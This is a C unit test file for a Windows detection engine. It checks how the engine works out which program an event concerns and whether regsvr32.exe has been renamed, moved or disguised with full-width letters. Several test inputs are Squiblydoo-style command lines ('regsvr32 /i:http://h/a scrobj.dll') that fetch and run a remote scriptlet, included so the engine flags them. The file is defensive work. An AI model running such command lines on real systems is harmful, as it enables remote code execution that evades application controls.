#include "tests/unit/derive/derived.h"

struct identity_case {
	const char *name, *image, *want;
	const char *original, *description, *hashes;
};

#define DEFAULT "C:\\Windows\\System32\\regsvr32.exe"
#define PUBLIC  "C:\\Users\\Public\\a.exe"
#define REAL    "program=regsvr32.exe\nrenamed=true\nmoved=true"

/* clang-format off */
static struct identity_case cases[] = {
	{ "by its name", DEFAULT, "program=regsvr32.exe\nrenamed=false\nmoved=false\nimage_name=regsvr32.exe" },
	{ "32 bit", "C:\\WINDOWS\\SysWOW64\\REGSVR32.EXE", "program=regsvr32.exe\nrenamed=false\nmoved=false" },
	{ "out of the store", "C:\\Windows\\WinSxS\\amd64_x\\regsvr32.exe", "moved=false" },
	{ "by its original name", PUBLIC, REAL, "REGSVR32.EXE" },
	{ "by its original name with .MUI", PUBLIC, REAL, "RegSvr32.exe.Mui" },
	{ "by its description", PUBLIC, REAL, NULL, "Microsoft(C) Register Server" },
	{ "by its imports", PUBLIC, REAL, NULL, NULL,
	  "SHA1=0000,MD5=11,IMPHASH=a2dad36bd73280726da578eb659d0583" },
	{ "other imports", PUBLIC, "program=a.exe\nrenamed=false\nmoved=false", NULL, NULL,
	  "IMPHASH=A2DAD36BD73280726DA578EB659D0584" },
	{ "an original name nobody knows", PUBLIC, "program=a.exe\nrenamed=false", "setup.exe" },
	{ "another program in the place of regsvr32", DEFAULT, "program=cmd.exe\nrenamed=true", "Cmd.Exe" },
	{ "a folder with a blank at its end", "C:\\Windows \\System32\\regsvr32.exe", "moved=true" },
	{ "a folder of the same name elsewhere", "C:\\ProgramData\\System32\\regsvr32.exe", "moved=true" },
	{ "a folder below System32", "C:\\Windows\\System32\\Tasks\\regsvr32.exe", "moved=true" },
	{ "wide letters", "C:\\Users\\Public\\\xef\xbd\x92""egsvr32.exe",
	  "program=regsvr32.exe\nmoved=true\ntrick=fullwidth" },
	{ "only a name", "regsvr32.exe", "program=regsvr32.exe\nmoved=false" },
	{ "PowerShell where it belongs", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "moved=false" },
	{ "PowerShell elsewhere", "C:\\Windows\\System32\\powershell.exe", "moved=true" },
	{ "Explorer", "C:\\Windows\\explorer.exe", "moved=false" },
	{ "Explorer's twin", "C:\\Windows\\SysWOW64\\explorer.exe", "moved=false" },
	{ "MSBuild of Visual Studio", "C:\\Program Files\\VS\\MSBuild.exe", "moved=false" },
	{ "MSBuild of a user", "C:\\Users\\b\\Downloads\\MSBuild.exe", "moved=true" },
	{ "no image", NULL, "program=-\nimage=-\nrenamed=-" },
};
/* clang-format on */

static void check_identity(void **state)
{
	const struct identity_case *tc = *state;
	struct derived d;

	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, tc->image);
	derived_put(&d, SQ_F_ORIGINAL_FILE_NAME, tc->original);
	derived_put(&d, SQ_F_DESCRIPTION, tc->description);
	derived_put(&d, SQ_F_HASHES, tc->hashes);
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d, tc->want), "");
	derived_fini(&d);
}

static void a_library_does_not_lend_its_name_to_who_loads_it(void **state)
{
	struct derived d;

	(void)state;
	derived_init(&d);
	d.ev.category = SQ_CATEGORY_IMAGE_LOAD;
	derived_put(&d, SQ_F_IMAGE, "C:\\V\\app.exe");
	derived_put(&d, SQ_F_ORIGINAL_FILE_NAME, "REGSVR32.EXE");
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d, "program=app.exe\nrenamed=-\nimage_name=app.exe"),
	                    "");
	derived_fini(&d);
}

static void the_process_of_other_events_is_named(void **state)
{
	static const uint32_t fields[] = { SQ_F_IMAGE, SQ_F_PROCESS_NAME, SQ_F_APPLICATION };

	(void)state;
	for (size_t i = 0; i < SQ_LEN(fields); i++) {
		struct derived d;

		derived_init(&d);
		d.ev.category = SQ_CATEGORY_NONE;
		derived_put(&d, fields[i],
		            "\\device\\harddiskvolume2\\windows\\system32\\regsvr32.exe");
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		assert_string_equal(
			derived_wrong(&d,
		                      "program=regsvr32.exe\nimage_name=regsvr32.exe\nmoved=false"),
			"");
		derived_fini(&d);
	}
}

static void every_one_of_two_images_and_lines_counts(void **state)
{
	struct derived d;

	(void)state;
	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\regsvr32.exe");
	derived_put(&d, SQ_F_COMMAND_LINE, "regsvr32 /s \"C:\\Program Files\\V\\v.dll\"");
	derived_put(&d, SQ_F_COMMAND_LINE,
	            "regsvr32 /i:http://h/a scrobj.dll C:\\ProgramData\\a.dll");
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(
		derived_wrong(
			&d,
			"regsvr32.lawful=false\nregsvr32.scrobj=true\nregsvr32.install_class=none|url\n"
			"argument_count=2|3"),
		"");
	derived_fini(&d);
}

static void without_an_image_the_line_says_who_it_is_for(void **state)
{
	struct derived d;

	(void)state;
	derived_init(&d);
	derived_put(&d, SQ_F_COMMAND_LINE,
	            "C:\\Windows\\System32\\regsvr32 /s c:\\programdata\\a.dll");
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(
		derived_wrong(
			&d, "program=regsvr32.exe\nimage=-\nregsvr32.library_place=user_writable"),
		"");
	derived_fini(&d);
}

static void of_two_images_both_are_read_for(void **state)
{
	struct derived d;

	(void)state;
	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\notepad.exe");
	derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\regsvr32.exe");
	derived_put(&d, SQ_F_COMMAND_LINE, "x /i:http://h/a scrobj");
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d,
	                                  "program=notepad.exe|regsvr32.exe\nregsvr32.scrobj=true"),
	                    "");
	derived_fini(&d);
}

static void too_many_arguments_leave_room_for_what_they_mean(void **state)
{
	enum { N = 2000 };
	static char line[N * 4 + 100];
	struct derived d;
	size_t n = (size_t)snprintf(line, sizeof(line), "regsvr32 /s");

	(void)state;
	for (int i = 0; i < N; i++)
		n += (size_t)snprintf(line + n, sizeof(line) - n, " a%c", 'a' + i % 26);
	(void)snprintf(line + n, sizeof(line) - n, " /i:http://h/a scrobj.dll");
	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, DEFAULT);
	derived_put(&d, SQ_F_COMMAND_LINE, line);
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d, "regsvr32.lawful=false\nregsvr32.scrobj=true\n"
	                                      "regsvr32.install_class=url\nregsvr32.switch=s|i"),
	                    "");
	assert_non_null(strstr(derived_text(&d, "squibly.trick"), "many_arguments"));
	assert_true(d.ev.n_more <= SQ_EVENT_MORE_MAX);
	derived_fini(&d);
}

static void a_full_arena_is_survived_and_told(void **state)
{
	(void)state;
	for (size_t cap = 0; cap < 3000; cap += 7) {
		struct derived d;

		derived_init(&d);
		sq_arena_fini(&d.arena);
		assert_int_equal(sq_arena_init(&d.arena, cap), 0);
		derived_put(&d, SQ_F_IMAGE, DEFAULT);
		derived_put(
			&d, SQ_F_COMMAND_LINE,
			"regsvr32 /s /u /i:http://h/a.sct \"C:\\Program Files\\x.dll\" scrobj.dll");
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		if (cap < 64)
			assert_true(d.ev.flags & SQ_EVENT_OVERFLOW);
		derived_fini(&d);
	}
}

int main(void)
{
	const struct CMUnitTest others[] = {
		cmocka_unit_test(a_library_does_not_lend_its_name_to_who_loads_it),
		cmocka_unit_test(the_process_of_other_events_is_named),
		cmocka_unit_test(every_one_of_two_images_and_lines_counts),
		cmocka_unit_test(without_an_image_the_line_says_who_it_is_for),
		cmocka_unit_test(of_two_images_both_are_read_for),
		cmocka_unit_test(too_many_arguments_leave_room_for_what_they_mean),
		cmocka_unit_test(a_full_arena_is_survived_and_told),
	};

	return RUN_TABLE("derive/identity", cases, check_identity) +
	       cmocka_run_group_tests_name("derive/identity of events", others, NULL, NULL);
}
